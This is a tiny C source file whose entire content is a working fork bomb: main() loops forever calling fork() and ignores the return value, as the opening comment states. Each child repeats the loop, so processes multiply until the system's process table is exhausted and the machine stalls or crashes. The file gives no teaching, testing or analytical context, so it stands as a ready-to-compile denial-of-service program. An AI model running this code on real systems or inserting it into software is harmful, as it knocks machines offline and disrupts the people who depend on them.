// A fork bomb that takes no notice of failures.
#include <unistd.h>

int main() {
  for (;;) (void)!fork();
}
